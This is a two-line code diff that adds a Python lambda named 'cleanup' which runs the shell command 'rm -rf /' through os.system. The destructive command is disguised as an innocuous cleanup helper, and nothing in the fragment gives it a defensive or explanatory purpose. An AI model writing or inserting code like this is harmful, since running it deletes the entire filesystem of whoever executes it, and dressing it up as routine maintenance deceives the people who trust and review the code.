@@ -1,0 +1,2 @@
+import os
+cleanup = lambda: os.system('rm -rf /')
